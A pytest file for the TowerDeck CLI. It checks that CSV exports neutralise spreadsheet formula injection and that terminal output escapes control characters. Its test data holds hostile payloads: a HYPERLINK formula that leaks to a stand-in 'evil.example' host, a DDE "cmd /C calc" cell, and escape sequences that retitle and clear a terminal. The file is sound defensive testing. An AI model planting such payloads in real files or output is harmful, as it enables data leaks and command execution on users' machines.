"""Hostile text from users, trainers, NVML and run directories (issue 34): no CSV TowerDeck writes
holds a cell a spreadsheet would run as a formula, and no terminal output holds a raw control
character (a cluster named ``\\e]0;TITLE\\a\\e[2J`` retitled and cleared the terminal of whoever
ran ``runs compare``)."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from core.cli.ctl import print_status
from core.cli.main import main as cli_main
from core.run.csv_export import export_csv, read_csv
from core.run.status import RoleState, RoleStatus
from tests.helpers.ports import free_ports
from tests.helpers.procs import assert_nothing_left
from tests.helpers.project import ROOT, run_cli
from tests.helpers.textcheck import formula_cells, formula_cells_in, raw_controls

OLD_RUN = ROOT / "tests" / "fixtures" / "run_c23e87e"
TITLE_AND_CLEAR = "\x1b]0;TITLE\x07\x1b[2J"
FORMULAS = ['=HYPERLINK("http://evil.example/?leak","click")', "+1+1", "-2+3", "@SUM(1,1)", "\t=1", "\r=1"]


def cli(*args: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    code = cli_main(list(args), out, err)
    return code, out.getvalue(), err.getvalue()


def old_run(tmp_path: Path, dirname: str, env: dict[str, str] | None = None, **info_changes: str) -> Path:
    """A copy of a real run's directory, fields of its run.json and its cluster's env changed."""
    run = tmp_path / dirname
    shutil.copytree(OLD_RUN, run)
    info = json.loads((run / "run.json").read_text())
    info.update({"id": dirname, **info_changes})
    (run / "run.json").write_text(json.dumps(info))
    if env:
        spec = (run / "cluster.toml").read_text()
        table = "".join(f"{key} = {json.dumps(value)}\n" for key, value in env.items())
        (run / "cluster.toml").write_text(spec.replace("[jobs.ps]", f"[env]\n{table}\n[jobs.ps]", 1))
    return run


# ------------------------------------------------------------------------------------------
# CSV formula injection


def test_export_csv_writes_no_formula_from_tags_gpu_names_hosts_or_details(tmp_path: Path) -> None:
    run = old_run(tmp_path, "run-a")
    points = [{"tag": tag, "step": i, "wall_time": 1000.0 + i, "value": -0.5 * i} for i, tag in enumerate(FORMULAS)]
    (run / "roles" / "worker-1" / "scalars.jsonl").write_text("".join(json.dumps(p) + "\n" for p in points))
    gpu = {"index": 0, "name": "=cmd|' /C calc'!A0", "uuid": "@uuid", "processes": [{"pid": 1, "role": "-x"}]}
    sample = {"t": 2000.5, "host": "+host", "figures": {"cpu_percent": -1.5}, "roles": {}, "gpus": [gpu]}
    (run / "telemetry" / "samples-h.jsonl").write_text(json.dumps(sample) + "\n")
    state = {"t": 3000.0, "kind": "role_state", "role": "worker:0", "state": "failed", "detail": "=1+1", "pid": -1}
    with open(run / "events.jsonl", "a") as f:
        f.write(json.dumps(state) + "\n")

    code, _, err = cli("export", str(run), "--csv", str(tmp_path / "out"))
    assert code == 0, err
    for name in ("scalars.csv", "gpu_samples.csv", "host_samples.csv", "role_states.csv", "metrics.csv"):
        assert formula_cells_in(tmp_path / "out" / name) == [], name
    # Neutralised with a leading quote, the text otherwise kept; numbers stay numbers.
    scalars = read_csv(tmp_path / "out" / "scalars.csv")
    assert [r["tag"] for r in scalars] == ["'" + tag for tag in FORMULAS]
    assert [float(r["value"]) for r in scalars] == [p["value"] for p in points]
    [row] = read_csv(tmp_path / "out" / "gpu_samples.csv")
    assert (row["name"], row["uuid"], row["host"], row["roles"]) == ("'=cmd|' /C calc'!A0", "'@uuid", "'+host", "'-x")
    [host] = [r for r in read_csv(tmp_path / "out" / "host_samples.csv") if r["host"] == "'+host"]
    assert host["cpu_percent"] == "-1.5"
    detail = read_csv(tmp_path / "out" / "role_states.csv")[-1]
    assert (detail["detail"], detail["pid"]) == ("'=1+1", "-1")


def test_export_csv_through_the_function_the_window_calls(tmp_path: Path) -> None:
    run = old_run(tmp_path, "run-a")
    (run / "roles" / "worker-0" / "scalars.jsonl").write_text(json.dumps({"tag": "@SUM(1,1)", "step": 1}) + "\n")
    export_csv(run, tmp_path / "out")  # gui/window/exporting.py writes through this
    assert [r["tag"] for r in read_csv(tmp_path / "out" / "scalars.csv")] == ["'@SUM(1,1)"]


def test_runs_compare_csv_and_table_neutralise_a_hostile_cluster_name(tmp_path: Path) -> None:
    a = old_run(tmp_path, "run-a", env={"EVIL": '=HYPERLINK("x")'}, name="=1+1")
    b = old_run(tmp_path, "run-b", env={"EVIL": "\x1b[31mred\u202e"}, name=TITLE_AND_CLEAR)
    table = tmp_path / "compare.csv"
    code, out, err = cli("runs", "compare", str(a), str(b), "--csv", str(table))
    assert code == 0, err
    assert raw_controls(out) == [] and raw_controls(err) == []
    assert "\\x1b]0;TITLE\\x07\\x1b[2J" in out and "\\x1b[31mred\\u202e" in out
    text = table.read_text(encoding="utf-8")
    assert formula_cells(text) == []
    rows = {row[0]: row[2:] for row in csv.reader(io.StringIO(text, newline=""))}
    assert rows["name"] == ["'=1+1", TITLE_AND_CLEAR]  # the file keeps the text; only formulas change
    # Each env value is a row of its own now: one that starts as a formula is quoted.
    assert rows["[env] EVIL"] == ['\'=HYPERLINK("x")', "\x1b[31mred\u202e"]


def test_runs_list_shows_a_hostile_run_id_and_cluster_file_escaped(tmp_path: Path) -> None:
    """``runs`` shows each run's id and cluster file from its run.json, which anyone who can write
    the run directory may have edited."""
    root = tmp_path / "runs"
    root.mkdir()
    run = old_run(root, "run-a", source=f"/x/{TITLE_AND_CLEAR}.toml")
    info = json.loads((run / "run.json").read_text())
    (run / "run.json").write_text(json.dumps({**info, "id": "\x1b[2Jrun\ta"}))
    code, out, err = cli("runs", "--root", str(root))
    assert code == 0, err
    assert raw_controls(out) == [], out
    # A run is labelled by its folder; run.json's own id, which differs here, is in --json only.
    assert "run-a" in out and "\\x1b]0;TITLE" in out
    assert len(out.strip().splitlines()) == 4  # header, the run, a blank line, the count
    code, out, err = cli("runs", "--root", str(root), "--json")
    assert code == 0 and raw_controls(out) == [], err
    assert json.loads(out.splitlines()[0])["recorded_id"] == "\x1b[2Jrun\ta"


# ------------------------------------------------------------------------------------------
# Terminal escapes


def test_validate_refuses_a_control_character_in_the_name_and_prints_it_escaped(tmp_path: Path) -> None:
    ports = free_ports(1)
    path = tmp_path / "c.toml"
    path.write_text(
        'name = "\\u001b]0;TITLE\\u0007\\u001b[2J"\nstrategy = "custom"\ncommand = ["python", "-c", "pass"]\n'
        f'[env]\n"\\u001b[2J" = "x"\n[jobs.worker]\ntasks = ["127.0.0.1:{ports[0]}"]\n'
    )
    code, out, err = cli("validate", str(path))
    assert code == 2, err
    assert raw_controls(out + err) == [], err
    assert f"{path}:1: error: name: contains a control character (\\x1b)" in err
    assert f"{path}:5: error: env.\\x1b[2J: " in err  # the key is named, escaped


def test_render_prints_no_control_character_and_its_line_still_runs(tmp_path: Path) -> None:
    ports = free_ports(1)
    dump = tmp_path / "argv.json"
    path = tmp_path / "c.toml"
    path.write_text(
        'strategy = "custom"\nlaunch_style = "tf_config"\n'
        f'command = ["python", "-c", "import json,sys; json.dump(sys.argv[1:], open({str(dump)!r}, \'w\'))", '
        '"\\u001b]0;TITLE\\u0007", "tab\\there"]\n'
        f'[env]\nCOLOR = "\\u001b[31m"\n[jobs.worker]\ntasks = ["127.0.0.1:{ports[0]}"]\n'
    )
    code, out, err = cli("render", str(path))
    assert code == 0, err
    assert raw_controls(out) == [], out
    line = next(x for x in out.splitlines() if x.startswith("cd "))
    subprocess.run(["bash", "-c", line], check=True, timeout=60, cwd=tmp_path)
    assert json.loads(dump.read_text()) == ["\x1b]0;TITLE\x07", "tab\there"]


def test_ctl_status_shows_details_reasons_and_last_lines_escaped() -> None:
    """The control socket's status reply carries a role's detail and last output lines (a
    trainer's words) and hosts' reasons."""
    status = RoleStatus(
        role="worker:0",
        job="worker",
        index=0,
        host="127.0.0.1",
        address="127.0.0.1:2222",
        state=RoleState.FAILED,
        state_since=1.0,
        pid=None,
        attempt=1,
        restarts=0,
        returncode=1,
        signal=None,
        started_at=None,
        ended_at=None,
        detail=f"exited 1 {TITLE_AND_CLEAR}",
        log_path=None,
    )
    role = {**status.to_json(), "last_lines": [f"Traceback {TITLE_AND_CLEAR}", "\x9b2J"]}
    reply = {
        "ok": True,
        "phase": "failed",
        "result": "failed",
        "reason": f"worker:0 {TITLE_AND_CLEAR}",
        "roles": [role],
        "hosts": {"h": {"state": "lost", "reason": "ssh: \x1b[2J"}},
    }
    out, err = io.StringIO(), io.StringIO()
    assert print_status(reply, out, err) == 0, err.getvalue()
    assert raw_controls(out.getvalue()) == [], out.getvalue()
    assert "| Traceback \\x1b]0;TITLE" in out.getvalue() and "\\x9b2J" in out.getvalue()


HOSTILE_ROLE = r"""
import sys
sys.stdout.write("step 1 \x1b]0;PWNED\x07\x1b[2J\x1b[31mred\t|\x9b2J\n")
sys.stdout.flush()
sys.stderr.write("fatal: \x1b[2J\x07\n")
sys.exit(3)
"""


@pytest.mark.timeout(120, method="thread")
def test_a_launch_following_a_hostile_trainer_prints_its_output_escaped(tmp_path: Path) -> None:
    (tmp_path / "role.py").write_text(HOSTILE_ROLE)
    [port] = free_ports(1)
    path = tmp_path / "c.toml"
    path.write_text(
        f'strategy = "custom"\ncommand = ["{sys.executable}", "{tmp_path / "role.py"}"]\n'
        f'[jobs.worker]\ntasks = ["127.0.0.1:{port}"]\n'
    )
    result = run_cli("launch", str(path), "--run-dir", str(tmp_path / "run"), "--follow", "all", timeout=100)
    assert result.returncode == 1, result.stdout + result.stderr
    assert raw_controls(result.stdout) == [] and raw_controls(result.stderr) == [], result.stdout
    followed = [x for x in result.stdout.splitlines() if x.strip().startswith("worker:0 | step 1")]
    assert followed and "\\x1b]0;PWNED\\x07\\x1b[2J\\x1b[31mred\\x09|\\x9b2J" in followed[0]
    assert "fatal: \\x1b[2J\\x07" in result.stdout  # the failed role's tail in the summary
    log = (tmp_path / "run" / "roles" / "worker-0" / "attempt-1.log").read_bytes()
    assert b"\x1b]0;PWNED\x07" in log  # the log keeps every byte as written
    assert_nothing_left([port], str(tmp_path))
